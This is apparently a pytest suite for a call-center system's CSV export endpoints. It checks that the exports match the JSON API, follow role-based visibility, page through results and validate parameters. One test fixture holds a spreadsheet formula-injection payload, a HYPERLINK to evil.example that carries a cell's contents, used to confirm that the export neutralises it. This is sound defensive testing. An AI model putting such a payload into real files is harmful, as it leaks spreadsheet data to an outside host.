"""CSV exports (issue 18): a period's call records, agent and queue figures, as the JSON API
gives them to the same user (row for row, same values), streamed page by page from stats,
with the user's visibility, readable cells and no cell a spreadsheet would run as a formula.

Real router, stats (applying a scripted day of events), gateway and HTTP."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zoneinfo

import grpc
import pytest

from callcenter.api.router.v1 import router_pb2 as pb
from callcenter.api.router.v1 import router_pb2_grpc
from callcenter.core import event_stream
from tests.gateway_scenes import setup_team
from tests.stats_fixtures import EventScript

TZ = "Europe/Berlin"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAMES = {"anna": "Anna Meyer", "boris": "Boris Becker", "csilla": "Csilla Nagy"}
OUTCOMES = {
    "answered": "Answered",
    "in_progress": "In progress",
    "abandoned": "Abandoned",
    "timed_out": "Timed out",
    "redirected": "Redirected",
}
OFFERS = {"no_answer": "No answer", "answered": "Answered"}


@pytest.fixture
async def backend_addrs(quiet_stats, start_recorder):
    recorder = await start_recorder()
    return {"stats_addr": f"127.0.0.1:{quiet_stats.port}", "recorder_addr": f"127.0.0.1:{recorder.port}"}


def the_day() -> dt.date:
    """A recent whole day (stats keeps it), two days ago."""
    return (dt.datetime.now(dt.UTC) - dt.timedelta(days=2)).date()


def at(day: dt.date, hhmm: str) -> int:
    """ms of the day's hh:mm in UTC."""
    hour, minute = map(int, hhmm.split(":"))
    return int(dt.datetime(day.year, day.month, day.day, hour, minute, tzinfo=dt.UTC).timestamp() * 1000)


async def named_team(gateway) -> None:
    """setup_team's agents, with display names."""
    await setup_team(gateway)
    async with grpc.aio.insecure_channel(f"127.0.0.1:{gateway.router_port}") as channel:
        stub = router_pb2_grpc.RouterServiceStub(channel)
        for agent_id, queue in (("anna", "sales"), ("boris", "sales"), ("csilla", "support")):
            agent = pb.Agent(id=agent_id, name=NAMES[agent_id], endpoint=f"sip:{agent_id}@pbx", queues=[queue])
            await stub.UpsertAgent(pb.UpsertAgentRequest(agent=agent))


async def scripted_day(redis, tenant, day: dt.date) -> None:
    """c1 (sales): anna misses, boris answers, 2 min talk, 10 s wrap-up; c2 (support): csilla
    answers; c3 (sales): a caller whose "number" is a formula hangs up waiting; c4 (sales):
    anna answers; c5 (sales): times out; late (sales), 23:30 UTC: the next day in Berlin."""
    script = EventScript(redis, tenant, at(day, "08:00"))
    await script.receive("c1", "sales", caller="+491701")
    await script.offer("c1", "anna")
    script.advance(15)
    await script.miss("c1")
    await script.offer("c1", "boris")
    script.advance(4.5)
    await script.answer("c1")
    script.advance(120)
    await script.complete("c1")
    script.advance(10)
    await script.end_wrap_up("c1")
    script.at(at(day, "09:00"))
    await script.answered_call("c2", "support", "csilla", ring_s=3, talk_s=61.25, wait_s=7, caller="+36201")
    script.at(at(day, "10:00"))
    await script.receive("c3", "sales", caller=FORMULA)
    await script.queue("c3")
    script.advance(42)
    await script.abandon("c3")
    script.at(at(day, "11:00"))
    await script.answered_call("c4", "sales", "anna", ring_s=2, talk_s=30, wrap_s=5, caller="-1 Bob")
    script.at(at(day, "12:00"))
    await script.receive("c5", "sales", caller="@home")
    await script.queue("c5")
    script.advance(300)
    await script.time_out("c5")
    script.at(at(day, "23:30"))
    await script.receive("late", "sales")
    await script.abandon("late")


def guarded(cell: str) -> str:
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def local(ms: int | None) -> str:
    if ms is None:
        return ""
    whole = dt.datetime.fromtimestamp(ms // 1000, zoneinfo.ZoneInfo(TZ)) + dt.timedelta(milliseconds=ms % 1000)
    return whole.isoformat(timespec="milliseconds")


def expected_row(call: dict, names: dict[str, str]) -> list[str]:
    """What the export must say of one call of GET /api/v1/calls (durations compared apart)."""
    name = lambda agent_id: names.get(agent_id, agent_id)  # noqa: E731
    offered = "; ".join(f"{name(o['agent_id'])}: {OFFERS.get(o['outcome'], o['outcome'])}" for o in call["offers"])
    return [guarded(cell) for cell in [
        call["call_id"], local(call["received_ms"]), call["caller"], call["queue"], OUTCOMES[call["outcome"]],
        name(call["agent_id"]) if call["agent_id"] else "", call["agent_id"], local(call["answered_ms"]),
        local(call["ended_ms"]), str(len(call["offers"])), offered, " ".join(call["recording_ids"]),
        call["lead_id"],
    ]]  # fmt: skip


DURATIONS = {"Wait (s)": "wait_ms", "Ring (s)": "ring_ms", "Talk (s)": "talk_ms", "Wrap-up (s)": "wrap_up_ms"}


async def json_calls(client, query: str) -> list[dict]:
    found, token = [], ""
    while True:
        reply = await client.get(f"/api/v1/calls?{query}&page_size=500" + (f"&page_token={token}" if token else ""))
        body = await reply.json()
        assert reply.status == 200, body
        found += body["calls"]
        token = body["next_page_token"]
        if not token:
            return found


async def csv_rows(client, path: str) -> tuple[list[str], list[dict[str, str]], object]:
    reply = await client.get(path)
    raw = await reply.read()
    assert reply.status == 200, raw[:500]
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff")  # the byte order mark spreadsheets need for UTF-8
    table = list(csv.reader(io.StringIO(text[1:], newline="")))
    return table[0], [dict(zip(table[0], row, strict=True)) for row in table[1:]], reply


def same_as_json(rows: list[dict[str, str]], calls: list[dict], names: dict[str, str], columns: list[str]) -> None:
    assert len(rows) == len(calls)
    for row, call in zip(rows, calls, strict=True):
        durations = {column: row[column] for column in DURATIONS}
        rest = [row[c] for c in columns if c not in DURATIONS]
        assert rest == expected_row(call, names), call["call_id"]
        for column, field in DURATIONS.items():
            assert round(float(durations[column]) * 1000) == call[field], (call["call_id"], column)


async def test_the_csv_export_of_a_day_equals_the_json_apis_records_for_each_role(
    backend_addrs, quiet_stats, gateway, redis, tenant
):
    await named_team(gateway)
    day = the_day()
    await scripted_day(redis, tenant, day)
    await quiet_stats.consumer.drain()
    period = f"from={day}&to={day}&tz={TZ}"
    seen = {}
    for user in ("root", "sam", "anna"):
        client = await gateway.login(user)
        calls = await json_calls(client, period)
        columns, rows, reply = await csv_rows(client, f"/api/v1/export/calls.csv?{period}")
        names = NAMES if user != "anna" else {"anna": NAMES["anna"]}  # names of the agents the user sees
        same_as_json(rows, calls, names, columns)
        seen[user] = [row["Call ID"] for row in rows]
        assert reply.headers["Content-Disposition"] == f'attachment; filename="calls_{day}_{day}.csv"'
        assert reply.headers["Cache-Control"] == "no-store"
        assert reply.content_type == "text/csv"
    assert seen["root"] == ["c5", "c4", "c3", "c2", "c1"]  # newest first; "late" is the next day in Berlin
    assert seen["sam"] == ["c5", "c4", "c3", "c1"]  # his team's queue only
    assert seen["anna"] == ["c4", "c1"]  # the calls that rang her
    anna = await gateway.login("anna")
    _, rows, _ = await csv_rows(anna, f"/api/v1/export/calls.csv?{period}")
    c1 = rows[1]
    # Her own legs only: of c1, which boris took, her missed offer and nothing of his part.
    assert (c1["Agent"], c1["Agent ID"], c1["Answered"], c1["Talk (s)"]) == ("", "", "", "0")
    assert c1["Offered to"] == "Anna Meyer: No answer" and c1["Ring (s)"] == "15"
    root = await gateway.login("root")
    _, rows, _ = await csv_rows(root, f"/api/v1/export/calls.csv?{period}")
    by_id = {row["Call ID"]: row for row in rows}
    assert by_id["c1"]["Offered to"] == "Anna Meyer: No answer; Boris Becker: Answered"
    assert (by_id["c1"]["Agent"], by_id["c1"]["Outcome"], by_id["c1"]["Talk (s)"]) == (
        "Boris Becker",
        "Answered",
        "120",
    )
    assert by_id["c2"]["Talk (s)"] == "61.25" and by_id["c5"]["Outcome"] == "Timed out"
    assert by_id["c1"]["Received"] == local(at(day, "08:00"))  # ISO 8601 in the requested zone
    # The same filters as the JSON API.
    _, rows, _ = await csv_rows(root, f"/api/v1/export/calls.csv?{period}&outcome=answered&queue=sales")
    assert [row["Call ID"] for row in rows] == ["c4", "c1"]


async def test_a_formula_looking_caller_is_neutralised_in_the_export(
    backend_addrs, quiet_stats, gateway, redis, tenant
):
    await named_team(gateway)
    day = the_day()
    await scripted_day(redis, tenant, day)
    await quiet_stats.consumer.drain()
    root = await gateway.login("root")
    _, rows, _ = await csv_rows(root, f"/api/v1/export/calls.csv?from={day}&to={day}&tz={TZ}")
    callers = {row["Call ID"]: row["Caller"] for row in rows}
    assert callers == {"c1": "'+491701", "c2": "'+36201", "c3": "'" + FORMULA, "c4": "'-1 Bob", "c5": "'@home"}


async def test_more_records_than_a_page_are_all_exported_one_stats_page_at_a_time(
    backend_addrs, quiet_stats, gateway, redis, tenant
):
    await named_team(gateway)
    day = the_day()
    start, count = at(day, "06:00"), 1_234  # three stats pages of 500
    pipe = redis.pipeline(transaction=False)
    key = event_stream.stream_key(tenant)
    for n in range(count):
        when, call_id = start + 10_000 * n, f"bulk-{n:04d}"
        fields = {"call_id": call_id, "queue": "sales", "caller": "+49"}
        pipe.xadd(key, event_stream.entry("call_received", when, call_state="routing", **fields))
        pipe.xadd(key, event_stream.entry("call_abandoned", when + 500, call_state="abandoned", **fields))
    await pipe.execute()
    await quiet_stats.consumer.drain()
    sam = await gateway.login("sam")
    before = dict(gateway.rpcs)
    _, rows, reply = await csv_rows(sam, f"/api/v1/export/calls.csv?from={day}&to={day}&tz=UTC")
    assert [row["Call ID"] for row in rows] == [f"bulk-{n:04d}" for n in reversed(range(count))]
    made = {method: n - before.get(method, 0) for method, n in gateway.rpcs.items() if n != before.get(method, 0)}
    # Read page by page (never the whole period at once), the agents once for the whole export
    # (and, as at every request of a supervisor, the router's teams once: docs/gateway.md, "Teams").
    assert made == {"ListCallRecords": 3, "ListAgents": 1, "ListTeams": 1}
    assert reply.headers.get("Transfer-Encoding") == "chunked"  # streamed as it is read


async def test_the_agent_and_queue_figures_export_as_the_json_api_gives_them(
    backend_addrs, quiet_stats, gateway, redis, tenant
):
    await named_team(gateway)
    day = the_day()
    await scripted_day(redis, tenant, day)
    await quiet_stats.consumer.drain()
    period = f"day={day}&tz={TZ}"
    for user, agents in (("root", ["anna", "boris", "csilla"]), ("sam", ["anna", "boris"]), ("anna", ["anna"])):
        client = await gateway.login(user)
        figures = (await (await client.get(f"/api/v1/stats/agents?{period}")).json())["agents"]
        _, rows, reply = await csv_rows(client, f"/api/v1/export/agents.csv?{period}")
        assert [row["Agent ID"] for row in rows] == [a["agent_id"] for a in figures] == agents, user
        assert reply.headers["Content-Disposition"] == f'attachment; filename="agents_{day}_{day}.csv"'
        for row, agent in zip(rows, figures, strict=True):
            assert row["Agent"] == NAMES[agent["agent_id"]]
            for column, field in (("Offered", "offered"), ("Answered", "answered"), ("Missed", "missed")):
                assert int(row[column]) == int(agent.get(field, 0)), (user, agent["agent_id"], column)
            assert float(row["Talk (s)"]) == float(agent.get("talk_time", "0s").rstrip("s"))
    root = await gateway.login("root")
    _, rows, _ = await csv_rows(root, f"/api/v1/export/agents.csv?{period}")
    anna = next(row for row in rows if row["Agent ID"] == "anna")
    assert (anna["Offered"], anna["Answered"], anna["Missed"], anna["Talk (s)"]) == ("2", "1", "1", "30")
    midnight = dt.datetime(day.year, day.month, day.day, tzinfo=zoneinfo.ZoneInfo(TZ))
    assert anna["From"] == midnight.isoformat(timespec="milliseconds")  # the period, in the requested zone

    for user, queues in (("root", ["sales", "support"]), ("sam", ["sales"])):
        client = await gateway.login(user)
        figures = (await (await client.get(f"/api/v1/stats/queues?{period}")).json())["queues"]
        _, rows, _ = await csv_rows(client, f"/api/v1/export/queues.csv?{period}")
        assert [row["Queue"] for row in rows] == [q["queue"] for q in figures] == queues, user
        for row, queue in zip(rows, figures, strict=True):
            for column, field in (("Offered", "offered"), ("Answered", "answered"), ("Abandoned", "abandoned")):
                assert int(row[column]) == int(queue.get(field, 0)), (user, queue["queue"], column)
    _, rows, _ = await csv_rows(root, f"/api/v1/export/queues.csv?{period}&queue=sales")
    [sales] = rows
    assert (sales["Offered"], sales["Answered"], sales["Abandoned"], sales["Timed out"]) == ("4", "2", "1", "1")
    anna_client = await gateway.login("anna")
    reply = await anna_client.get(f"/api/v1/export/queues.csv?{period}")
    assert reply.status == 403 and reply.content_type == "application/json"  # queue figures are for supervisors


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("to=2026-03-02", "from"),
        ("from=2026-03-02", "to"),
        ("from=2026-03-02&to=2026-03-01", "to"),
        ("from=2026-01-01&to=2027-02-06", "to"),  # 402 days
        ("from=yesterday&to=2026-03-02", "from"),
        ("from=2026-03-02&to=2026-03-02&tz=Mars/Olympus", "tz"),
        ("from=2026-03-02&to=2026-03-02&outcome=lost", "outcome"),
        ("from=2026-03-02&to=2026-03-02&page_size=5", "page_size"),
        ("from=2026-03-02&to=2026-03-02&queue=a&queue=b", "queue"),
    ],
)
async def test_a_bad_export_request_is_a_400_naming_the_parameter(backend_addrs, gateway, query, field):
    await setup_team(gateway)
    root = await gateway.login("root")
    reply = await root.get(f"/api/v1/export/calls.csv?{query}")
    body = await reply.json()
    assert (reply.status, body["field"]) == (400, field), body


async def test_a_figures_export_of_more_than_400_days_is_a_400_naming_to(backend_addrs, gateway):
    await setup_team(gateway)
    root = await gateway.login("root")
    for kind in ("agents", "queues"):
        reply = await root.get(f"/api/v1/export/{kind}.csv?period=range&from=2025-01-01&to=2026-03-01")
        body = await reply.json()
        assert (reply.status, body["field"]) == (400, "to"), body
    reply = await root.get("/api/v1/export/calls.csv?from=2025-01-01&to=2026-02-04")  # 400 days: served
    assert reply.status == 200, await reply.text()


async def test_an_agent_may_not_export_another_agents_calls(backend_addrs, gateway):
    await setup_team(gateway)
    anna = await gateway.login("anna")
    reply = await anna.get("/api/v1/export/calls.csv?from=2026-03-02&to=2026-03-02&agent_id=boris")
    assert reply.status == 404 and reply.content_type == "application/json"
    reply = await gateway.client.get("/api/v1/export/calls.csv?from=2026-03-02&to=2026-03-02")
    assert reply.status == 401
